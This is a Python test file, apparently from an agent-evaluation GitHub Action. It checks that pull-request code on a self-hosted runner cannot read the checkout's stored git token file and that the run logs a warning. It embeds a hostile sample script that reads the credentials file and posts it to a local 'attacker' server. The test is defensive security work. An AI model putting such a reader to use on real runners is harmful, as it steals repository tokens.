"""A token actions/checkout keeps outside the workspace is out of the pull request's reach.

From v6 on, `persist-credentials` (its default) keeps the job's token in a file of the
runner's temp folder, `git-credentials-<uuid>.config`, which the workspace's `.git/config`
includes (`includeIf.gitdir:…`). On a self-hosted runner, where the action runs as root with
no container of its own, that file is as readable as the runner left it: closing the
workspace to others kept `.git/config`, not the file it includes. The head's program reads it
and posts it to a server of its own: it must get nothing, and the log must say a credential
is kept, whether the file is in the runner's temp folder or in another folder git names.
"""

from __future__ import annotations

import base64
import json
import shutil
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from fakes.github_api import FakeGitHub, FakePull
from fakes.http import LoopbackServer, Request, Response
from fakes.model_server import ScriptedModelServer, text
from support.actionrun import execute, prepare, pull_request_event
from support.agentenv import needs_root
from support.gitrepo import GitRepo

pytestmark = [pytest.mark.hostile, needs_root]

READER = """\
import json, sys, urllib.request
sys.stdin.read()
target = json.load(open("agent/target.json"))
try:
    found = open(target["credentials"]).read()
except OSError as exc:
    found = repr(exc)
urllib.request.urlopen(urllib.request.Request(target["attacker"], found.encode()), timeout=30)
print(json.dumps({"type": "final", "content": "hello"}))
"""
DEFINITIONS = """\
apiVersion: evalward.dev/v1
kind: Agent
metadata: { name: reader }
spec:
  runtime: { command: { run: [python3, agent/reader.py] } }
---
apiVersion: evalward.dev/v1
kind: Eval
metadata: { name: reader-eval }
spec:
  targetAgent: reader
  fixtures: [greets]
---
apiVersion: evalward.dev/v1
kind: EvalFixture
metadata: { name: greets }
spec:
  targetAgent: reader
  input: { type: prompt, payload: { prompt: hi } }
  assertions:
    - { type: contains, value: hello }
"""


@pytest.fixture
def runner_root() -> Iterator[Path]:
    """A self-hosted runner's folders, in a folder every user may pass through (as a
    runner's home is): what the agent user could reach if nothing kept it out."""
    root = Path(tempfile.mkdtemp(prefix="evalward-runner-"))
    root.chmod(0o755)
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize("kept_in", ["the runner's temp folder", "another folder"])
def test_the_token_a_checkout_keeps_in_a_file_its_git_configuration_includes_is_out_of_reach(
    runner_root: Path, github: FakeGitHub, model: ScriptedModelServer, kept_in: str
) -> None:
    received: list[bytes] = []

    def keep(request: Request) -> Response:
        received.append(request.body)
        return Response(200, {"ok": True})

    attacker = LoopbackServer(keep)
    try:
        workspace = runner_root / "_work" / "repo" / "repo"
        temp = runner_root / "_work" / "_temp"
        folder = temp if kept_in == "the runner's temp folder" else runner_root / "_work" / "_git"
        folder.mkdir(parents=True)
        temp.mkdir(parents=True, exist_ok=True)
        credentials = folder / "git-credentials-3f2a1c9e-0000-4000-8000-123456789abc.config"
        repo = GitRepo(workspace)
        target = {"credentials": str(credentials), "attacker": attacker.url + "/loot"}
        base = repo.commit(
            "a program agent",
            {
                "evals/reader.yaml": DEFINITIONS,
                "agent/reader.py": READER,
                "agent/target.json": json.dumps(target),
                ".gitignore": ".evalward/\n",
            },
        )
        repo.branch("feature")
        head = repo.commit("tuned", {"agent/reader.py": READER + "# tuned\n"})
        github.add_pull(FakePull(number=7, head_sha=head, base_sha=base))
        model.script(lambda body: True, text("hello"))
        header = base64.b64encode(f"x-access-token:{github.token}".encode()).decode()
        credentials.write_text(
            f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {header}\n'
        )
        credentials.chmod(0o644)
        for made in (runner_root / "_work", workspace.parent, folder, temp):
            made.chmod(0o755)
        repo.git("config", f"includeIf.gitdir:{workspace}/.git.path", str(credentials))
        event = pull_request_event(github.repository, 7, base, head)
        launch = prepare(
            workspace,
            github,
            event,
            inputs={"output-dir": ".evalward/out"},
            env={"RUNNER_TEMP": str(temp), "OPENAI_BASE_URL": model.base_url},
            run_dir=runner_root / "runner",
        )

        run = execute(workspace, launch)
    finally:
        attacker.close()

    assert received, run.stdout + run.stderr  # the head's program ran, and tried
    assert not any(header.encode() in body for body in received), "the token was read"
    assert b"PermissionError" in received[0]
    assert "the checkout keeps a credential in its git configuration" in run.stdout + run.stderr
    assert github.token not in run.stdout + run.stderr
    # given back once no agent runs: the runner's post step reads it as its owner
    assert stat.S_IMODE(credentials.stat().st_mode) == 0o644
    assert stat.S_IMODE(temp.stat().st_mode) == 0o755
